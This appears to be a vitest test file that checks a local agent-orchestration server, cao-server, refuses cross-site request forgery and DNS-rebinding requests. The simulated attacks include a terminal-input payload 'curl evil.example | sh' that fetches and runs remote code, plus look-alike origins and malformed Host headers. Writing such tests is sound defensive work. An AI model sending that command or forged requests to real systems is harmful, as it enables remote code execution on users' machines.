/**
 * Cross-site request forgery: POST parameters may come in the query string, so a page the user visits could drive
 * cao-server with a body-less `fetch(url, {method: "POST", mode: "no-cors"})`. Every state-changing request with a
 * foreign Origin is refused with 403 before routing; requests without Origin (curl, the CLI, cao-mcp-server) and
 * pages of this server itself still work. Real server, real tmux (private socket), raw node:http requests (fetch
 * cannot send Origin or Host as a page would).
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi, type MockInstance } from "vitest";
import { removeTempDirs } from "./helpers/fs-fixtures.js";
import { changingTmuxCalls } from "./helpers/tmux-calls.js";
import { rawRequest, type RawResponse } from "./helpers/raw-http.js";
import { startTestServer, type TestServer } from "./helpers/server.js";

let t: TestServer;
let port = 0;
let live = ""; // a terminal of session cao-live, the target of the attacks
let tmuxCalls: MockInstance;

beforeAll(async () => {
  t = await startTestServer();
  port = Number(new URL(t.url).port);
  live = (await t.client.createSession({ provider: "mock", agent_profile: "developer", session_name: "live" })).id;
});

afterAll(async () => {
  await t?.close();
  removeTempDirs();
});

beforeEach(() => {
  tmuxCalls?.mockRestore();
  tmuxCalls = vi.spyOn(t.server.tmux, "run");
});

/** What a browser sends for `fetch(url, {method, mode: "no-cors"})` from a page on `origin`: no body, no type. */
function fromPage(origin: string, method: string, path: string): Promise<RawResponse> {
  return rawRequest(t.url, method, path, {
    headers: {
      origin,
      "sec-fetch-site": "cross-site",
      "sec-fetch-mode": "no-cors",
      referer: `${origin}/`,
      "content-length": "0",
    },
  });
}

const ATTACK = "/sessions?provider=mock&agent_profile=developer&session_name=csrf";

/** Every state-changing route (method, route, request), each with parameters that would make it succeed if it got through. */
const STATE_CHANGING: [string, string, () => string][] = [
  ["POST", "/sessions", () => ATTACK],
  ["DELETE", "/sessions/:session_name", () => "/sessions/cao-live"],
  [
    "POST",
    "/sessions/:session_name/terminals",
    () => "/sessions/cao-live/terminals?provider=mock&agent_profile=developer",
  ],
  [
    "POST",
    "/terminals/:terminal_id/input",
    () => `/terminals/${live}/input?message=${encodeURIComponent("curl evil.example | sh")}`,
  ],
  ["POST", "/terminals/:terminal_id/exit", () => `/terminals/${live}/exit`],
  ["POST", "/terminals/:terminal_id/key", () => `/terminals/${live}/key?key=Enter`],
  ["DELETE", "/terminals/:terminal_id", () => `/terminals/${live}`],
  [
    "POST",
    "/terminals/:receiver_id/inbox/messages",
    () => `/terminals/${live}/inbox/messages?sender_id=0000aaaa&message=hi`,
  ],
  // An agent's hook call: refused by Origin before its secret is even checked.
  ["POST", "/terminals/:terminal_id/agent-hooks", () => `/terminals/${live}/agent-hooks?event=UserPromptSubmit`],
  // Reaching these would answer 404 for a plugin this server does not have: the 403 shows the gate stands before routing.
  ["POST", "/plugins/:name/reload", () => "/plugins/webhook/reload"],
  ["POST", "/plugins/:name/enable", () => "/plugins/webhook/enable"],
  ["POST", "/plugins/:name/disable", () => "/plugins/webhook/disable"],
  ["POST", "/plugins/rescan", () => "/plugins/rescan"],
  ["POST", "/terminals/run-step", () => "/terminals/run-step?agent=developer&prompt=hi&provider=mock"],
  // A flow would run an agent on a schedule: the most lasting thing a page could plant.
  [
    "POST",
    "/flows",
    () => `/flows?name=csrf&schedule=${encodeURIComponent("* * * * *")}&agent_profile=developer&prompt_template=hi`,
  ],
  ["DELETE", "/flows/:name", () => "/flows/csrf"],
  ["POST", "/flows/:name/enable", () => "/flows/csrf/enable"],
  ["POST", "/flows/:name/disable", () => "/flows/csrf/disable"],
  ["POST", "/flows/:name/run", () => "/flows/csrf/run"],
  // This server is in no fleet: reaching it would be a 404, so the 403 again shows the gate.
  ["POST", "/fleet/hosts/:host/sessions", () => "/fleet/hosts/hostB/sessions?provider=mock&agent_profile=developer"],
];

const FOREIGN_ORIGINS = () => [
  "http://evil.example",
  "null", // sandboxed iframes, file:// pages, some redirects
  "",
  `http://evil.example:${port}`,
  `https://localhost:${port}`, // another scheme is another origin
  `http://localhost:${port + 1}`, // another local server (a dev server on the next port)
  "http://localhost", // port 80
  `http://127.0.0.1.evil.example:${port}`,
  `http://localhost:${port}.evil.example`,
  `http://localhost:${port}/path`,
  `http://localhost:${port}, http://evil.example`,
];

function expectRefused(response: RawResponse, what: string): void {
  expect(response.status, what).toBe(403);
  expect(response.headers["content-type"], what).toMatch(/^application\/json/);
  expect(JSON.parse(response.body).detail, what).toMatch(/^cross-origin request refused/);
  // No CORS headers at all: the page cannot even read the refusal.
  expect(
    Object.keys(response.headers).filter((h) => h.startsWith("access-control-")),
    what,
  ).toEqual([]);
}

async function sessionNames(): Promise<string[]> {
  return t.server.tmux.listSessions();
}

describe("the CSRF attack: state-changing requests from a foreign Origin are refused", () => {
  it("the attack as a page sends it (POST /sessions?… with Origin http://evil.example, no body) is 403 and creates no tmux session", async () => {
    const response = await fromPage("http://evil.example", "POST", ATTACK);
    expectRefused(response, "attack");
    expect(changingTmuxCalls(tmuxCalls)).toEqual([]);
    expect(await sessionNames()).not.toContain("cao-csrf");
    expect(t.logs.warnings().some((w) => w.origin === "http://evil.example" && w.method === "POST")).toBe(true);
  });

  it("Origin null (sandboxed frame, file:// page) is refused the same way", async () => {
    expectRefused(await fromPage("null", "POST", ATTACK), "null");
    expect(await sessionNames()).not.toContain("cao-csrf");
  });

  it("every foreign, malformed or look-alike Origin is refused", async () => {
    for (const origin of FOREIGN_ORIGINS())
      expectRefused(await fromPage(origin, "POST", ATTACK), JSON.stringify(origin));
    expect(changingTmuxCalls(tmuxCalls)).toEqual([]);
    expect(await sessionNames()).not.toContain("cao-csrf");
  });

  for (const [method, route, path] of STATE_CHANGING) {
    it(`${method} ${route} from http://evil.example is 403 and changes nothing`, async () => {
      const inboxBefore = await t.client.request<unknown[]>("GET", `/terminals/${live}/inbox/messages`, undefined, {
        limit: 1000,
      });
      const pluginsBefore = await t.client.request<unknown[]>("GET", "/plugins");
      tmuxCalls.mockClear();
      expectRefused(await fromPage("http://evil.example", method, path()), `${method} ${path()}`);
      expect(changingTmuxCalls(tmuxCalls)).toEqual([]);
      expect(await sessionNames()).toEqual(["cao-live"]);
      expect((await t.client.getTerminal(live)).status).toBe("idle");
      expect(await t.server.tmux.listWindows("cao-live")).toHaveLength(1);
      expect(
        await t.client.request<unknown[]>("GET", `/terminals/${live}/inbox/messages`, undefined, { limit: 1000 }),
      ).toEqual(inboxBefore);
      expect(await t.client.request<unknown[]>("GET", "/plugins")).toEqual(pluginsBefore);
    });
  }

  it("PUT and PATCH are refused before routing too (403, not 404)", async () => {
    for (const method of ["PUT", "PATCH"])
      expectRefused(await fromPage("http://evil.example", method, "/sessions/cao-live"), method);
  });

  it("the table above covers every state-changing route the server has", async () => {
    // printRoutes draws a tree: each line is "<indent>── <segment> (METHODS)", the indent four columns per level.
    const routes: string[] = [];
    const stack: string[] = [];
    for (const line of t.server.app.printRoutes({ commonPrefix: false }).split("\n")) {
      const match = /^(.*?)── (\S+) \(([^)]*)\)/.exec(line);
      if (!match) continue;
      const depth = Math.floor(match[1]!.length / 4);
      stack.length = depth;
      stack.push(match[2]!);
      for (const method of match[3]!.split(", "))
        if (["POST", "PUT", "PATCH", "DELETE"].includes(method)) routes.push(`${method} ${stack.join("")}`);
    }
    const shape = (route: string) => route.replace(/:[^/]+/g, ":param");
    const covered = STATE_CHANGING.map(([method, route]) => `${method} ${route}`);
    expect(routes.length).toBeGreaterThanOrEqual(7);
    expect(routes.map(shape).sort()).toEqual(covered.map(shape).sort());
  });
});

describe("what still works", () => {
  it("the same request with this server's own loopback origin works (201)", async () => {
    const response = await fromPage(
      `http://localhost:${port}`,
      "POST",
      "/sessions?provider=mock&agent_profile=developer&session_name=own-origin",
    );
    expect(response.status, response.body).toBe(201);
    expect(JSON.parse(response.body).session_name).toBe("cao-own-origin");
    expect(await sessionNames()).toContain("cao-own-origin");
  });

  it("the same request without an Origin (curl, the CLI, cao-mcp-server) works (201)", async () => {
    const response = await rawRequest(
      t.url,
      "POST",
      "/sessions?provider=mock&agent_profile=developer&session_name=no-origin",
    );
    expect(response.status, response.body).toBe(201);
    expect(await sessionNames()).toContain("cao-no-origin");
  });

  it("every loopback spelling of this server's origin passes the check", async () => {
    for (const origin of [
      `http://localhost:${port}`,
      `http://127.0.0.1:${port}`,
      `http://127.0.0.2:${port}`,
      `http://[::1]:${port}`,
      `http://LOCALHOST:${port}`,
    ]) {
      // An unknown terminal: reaching the route (404) proves the request got past the Origin check.
      const response = await fromPage(origin, "POST", "/terminals/deadbeef/input?message=hi");
      expect(response.status, origin).toBe(404);
      expect(JSON.parse(response.body).detail).toBe("terminal deadbeef not found");
    }
  });

  it("GETs are not affected by Origin (and carry no CORS headers, so a foreign page cannot read them)", async () => {
    for (const path of ["/health", "/sessions", `/terminals/${live}`, `/terminals/${live}/output?mode=full`]) {
      const response = await fromPage("http://evil.example", "GET", path);
      expect(response.status, path).toBe(200);
      expect(
        Object.keys(response.headers).filter((h) => h.startsWith("access-control-")),
        path,
      ).toEqual([]);
    }
  });
});

describe("the Host check (DNS rebinding) in the same gate", () => {
  it("accepts every loopback spelling, refuses other names and malformed Host headers with 400 {detail}", async () => {
    for (const host of [`127.0.0.5:${port}`, "127.1", `[0:0:0:0:0:0:0:1]:${port}`, "LocalHost"]) {
      expect((await rawRequest(t.url, "GET", "/health", { headers: { host } })).status, host).toBe(200);
    }
    for (const host of [
      "evil.example",
      "localhost@evil.example",
      "evil.example@localhost",
      "localhost/x",
      "localhost:notaport",
      "[::1",
      "::1",
      "0.0.0.0",
      "127.0.0.1.evil.example",
    ]) {
      const response = await rawRequest(t.url, "GET", "/health", { headers: { host } });
      expect(response.status, JSON.stringify(host)).toBe(400);
      expect(JSON.parse(response.body).detail).toMatch(/^invalid host header/);
    }
  });
});
